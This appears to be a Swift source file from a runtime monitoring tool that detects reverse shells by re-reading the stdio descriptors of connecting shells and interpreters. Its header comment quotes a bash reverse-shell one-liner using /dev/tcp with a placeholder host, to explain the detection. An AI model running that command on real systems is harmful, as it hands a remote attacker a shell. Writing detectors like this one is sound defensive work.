// SPDX-License-Identifier: Apache-2.0
// Adds what /proc says about the connecting process to each connect event, on the connect thread as
// the event is read, and re-reads the descriptors of shells and interpreters that connect, and of the
// shells in the connector's pipeline (its process group). A shell that redirects its own stdio to a
// socket it opened (`exec 3<>/dev/tcp/h/p; exec 0<&3 1>&3 2>&3`) execs nothing afterwards, so only a
// second look at its fds 0-2, a moment after the connect, shows the reverse shell.
//
// Under a connect storm the same few processes connect again and again: their /proc directories
// stay open in `directories`, and the re-reads are joined per process (ConnectRereads), so one look
// serves every connect of that process pending in its window.

import Foundation
import RuntimeWatchCore

public struct ConnectEnrichment: Sendable {
    /// When to look again at a connecting shell's (and its pipeline's shells') descriptors.
    public var rereadDelays: [Duration] = [.milliseconds(50), .milliseconds(500)]
    /// Most processes with re-reads waiting at once; beyond it a new process's re-reads are skipped
    /// and counted as a loss (source `connect`, cause `reread_limit`): bounded work under a connect
    /// storm. Connects of a process already waiting join its re-reads and are never skipped.
    public var maxPendingRereads = 64
    /// A process that connects again within this time of its last complete read, running the same
    /// exe and argv, is read for its descriptors only; the rest comes from that read
    /// (`ProcReader.read(…reuseWindow:)`). A connect storm from one process was a full /proc read per
    /// connect. nil: every connect reads fully.
    public var identityReuseWindow: Duration? = .seconds(1)
    public var reader = ProcReader()
    /// Open /proc/<pid> directories of connecting processes (shared with the other capture sources
    /// in `runtime-watch run`, which forget a pid when it exits).
    public var directories = ProcDirectoryCache()
    private let rereads = ConnectRereads()

    public init() {}

    /// Completes `record` (a connect gains `process`, read from /proc now, while the connector most
    /// likely still lives), hands it to `outlet`, and schedules the descriptor re-reads.
    /// - Parameter wake: whether what is queued wakes the drive loop (`CaptureQueue.push`); the
    ///   re-reads always do.
    /// - Parameter reportedExe: the connector's executable as the kernel reported it with the
    ///   connect (audit's `exe=`), which spares a repeated connector's exe link
    ///   (`ProcReader.read(…knownExe:)`).
    /// - Returns: false when the queue was full and dropped the record (counted there).
    @discardableResult
    public func deliver(_ record: EventRecord, to outlet: CaptureOutlet, wake: Bool = true, reportedExe: String? = nil) -> Bool {
        guard case .connect(var connect) = record.event else { return outlet.emit(record, wake: wake) }
        var record = record
        // A shell or interpreter that connects again while a look at its fds is due: that look
        // reports any change of its stdio (at most half a re-read delay late), so this read skips
        // the fd links. An interpreter's connect storm read three links per connect (21% of the
        // storm's samples, BENCHMARKS section 23).
        let reported = rereads.reported(pid: connect.pid)
        let read = reader.read(pid: connect.pid.rawValue, directories: directories, reuseWindow: identityReuseWindow,
                               knownDescriptors: reported?.lookDue == true ? reported?.known : nil, knownExe: reportedExe)
        if connect.process == nil, let info = read.info {
            connect.process = info
            record.event = .connect(connect)
        }
        let queued = outlet.emit(record, wake: wake)
        // Services (kind .other) connect all the time and are never a reverse shell's relay.
        guard let info = read.info, ProgramClassifier.kind(of: info) != .other else { return queued }
        let pid = connect.pid
        let connectorIsShell = ProgramClassifier.isShellOrInterpreter(info)
        // Audit delivers the connect late: by now the connector may already have moved the socket
        // onto its stdio (perl's fdopen, python's dup2). What was just read goes out at once, or the
        // re-reads below would see nothing new and say nothing. Fds the same as last reported while
        // this process's looks are pending are not sent again: an interpreter that connects a
        // thousand times a second would send the same fds a thousand times.
        if connectorIsShell, let fds = info.fds, reported.flatMap({ $0.known.startTicks == info.startTicks ? $0.known.fds : nil }) != fds {
            outlet.emit(EventRecord(timestamp: WallClock.nowNanoseconds(), event: .descriptors(DescriptorsEvent(pid: pid, fds: fds))), wake: wake)
        }
        let (reader, directories, window) = (reader, directories, identityReuseWindow)
        let scheduled = rereads.schedule(pid: pid, startTicks: info.startTicks, connectorIsShell: connectorIsShell,
                                         seen: connectorIsShell ? info.fds ?? [] : nil,
                                         delays: rereadDelays, limit: maxPendingRereads) { pid, series in
            Self.look(at: pid, series: series, reader: reader, directories: directories, reuseWindow: window, outlet: outlet)
        }
        if !scheduled {
            outlet.lose(1, cause: "reread_limit", reason: "descriptor re-read of a connecting shell skipped: \(maxPendingRereads) processes already pending",
                        time: record.timestamp)
        }
        return queued
    }

    /// One look: the connector itself when it is a shell, and the shells of its pipeline (children
    /// and siblings in its process group): one of them may be the shell this connection now serves.
    /// Reports each one's fds when they changed since the last report.
    /// - Returns: the fds reported, per process.
    private static func look(at pid: ProcessID, series: ConnectRereads.Series, reader: ProcReader,
                             directories: ProcDirectoryCache, reuseWindow: Duration?, outlet: CaptureOutlet) -> [ProcessID: [DescriptorInfo]] {
        var targets = reader.processGroupMembers(of: pid.rawValue).map { ProcessID($0) }
        if series.connectorIsShell { targets.insert(pid, at: 0) }
        var reported: [ProcessID: [DescriptorInfo]] = [:]
        for target in targets {
            // The connector is read only as the process that connected, never one that took its pid since.
            let read = reader.read(pid: target.rawValue, startTicks: target == pid ? series.startTicks : nil, directories: directories,
                                   reuseWindow: reuseWindow)
            guard let now = read.info, let fds = now.fds,
                  target == pid || ProgramClassifier.isShellOrInterpreter(now) else { continue }
            if fds != series.last[target] {
                outlet.emit(EventRecord(timestamp: WallClock.nowNanoseconds(),
                                        event: .descriptors(DescriptorsEvent(pid: target, fds: fds))))
                reported[target] = fds
            }
        }
        return reported
    }
}
